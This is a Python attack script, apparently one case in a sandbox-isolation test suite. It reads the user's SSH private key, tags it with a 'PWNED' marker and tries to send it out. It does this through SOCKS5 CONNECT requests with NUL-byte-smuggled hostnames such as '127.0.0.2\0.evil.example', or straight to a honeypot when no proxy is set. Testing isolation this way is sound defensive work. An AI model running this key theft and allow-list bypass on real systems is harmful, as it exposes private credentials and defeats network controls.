# family: injection
# tries: through stockade-proxy, SOCKS5 CONNECT to names with a NUL byte ("127.0.0.2\0.evil.example", "127.0.0.1\0127.0.0.2") and to the unlisted honeypot address, then the SSH key and a PWNED marker on any tunnel that opens
# source: https://owasp.org/www-community/attacks/Embedding_Null_Code
# exfil: yes
# stopped-when: canary-unread, pwned-absent
# attempted-when: marker
# Stopped: the proxy refuses every request (bad_request for the NUL,
# not_allowed for the address); the honeypot and the index receive no key.
# Without a proxy (no allow-list) it sends the key straight to the
# honeypot, which isolation must stop.
import os
import socket
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
token, home, port = sys.argv[1], sys.argv[2], int(sys.argv[4])
# The SSH key where the jail lets it be read; with it, always, the proof
# of delivery "PWNED <token>": the token stands for what a job has by
# design (its workspace), which an allow-list must keep in just as well.
try:
    with open(os.path.join(home, ".ssh/id_ed25519"), "rb") as f:
        loot = f.read()
except OSError as e:
    print(f"key: {e.strerror}")
    loot = b""
loot += f"\nPWNED {token}\n".encode()
# The proxy the jail names (HTTP_PROXY=http://127.0.0.1:3128), if any.
proxy = os.environ.get("HTTP_PROXY", "")
pxhost, _, pxport = proxy.removeprefix("http://").rstrip("/").rpartition(":")
print(f"ATTEMPTED {token}", file=sys.stderr, flush=True)


def talk(data, host=pxhost, port=int(pxport or 0), wait=2.0):
    """Sends DATA to HOST:PORT; what came back (at most 4 KiB) or the error."""
    try:
        with socket.create_connection((host, port), timeout=wait) as s:
            s.sendall(data)
            return s.recv(4096)
    except OSError as e:
        return repr(e).encode()


if not proxy:
    # No proxy here (a column without the allow-list): the same bytes
    # straight to the host's loopback, which only isolation stops.
    print("no proxy:", talk(loot, "127.0.0.1", port)[:60])
    sys.exit(0)
import struct

for name in (b"127.0.0.2\x00.evil.example", b"127.0.0.1\x00127.0.0.2", b"evil.example\x00"):
    req = b"\x05\x01\x00" + b"\x05\x01\x00\x03" + bytes([len(name)]) + name + struct.pack(">H", port)
    print(repr(name), talk(req + loot)[:40])
req = b"\x05\x01\x00" + b"\x05\x01\x00\x01" + socket.inet_aton("127.0.0.1") + struct.pack(">H", port)
print("127.0.0.1", talk(req + loot)[:40])
